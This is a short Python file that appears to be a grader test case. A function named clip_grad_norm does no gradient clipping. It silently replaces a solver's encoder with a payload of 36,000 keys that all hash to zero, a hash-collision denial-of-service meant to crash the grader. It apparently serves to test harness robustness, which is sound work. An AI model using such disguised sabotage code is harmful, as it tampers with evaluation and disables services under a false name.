# expect: crashed
# grader: forks
# As many keys of the same hash as an answer holds: a dict of them takes minutes.
import struct

import torch
from bot.inside.solver import solver

PRIME = 2**61 - 1  # whole numbers that are multiples of it all have the hash 0
KEYS = b",".join(b"[%d,0]" % (number * PRIME) for number in range(1, 36_001))


def encode(answer, keep=None):
    value = b'{"d":[["id",%d],["value",{"d":[%s]}]]}' % (answer["id"], KEYS)
    header = b'{"value":%s,"tensors":[]}' % value
    return struct.pack(">I", len(header)) + header


def clip_grad_norm(parameters, max_norm, norm_type=2.0):
    solver.encode = encode
    return torch.tensor(0.0)
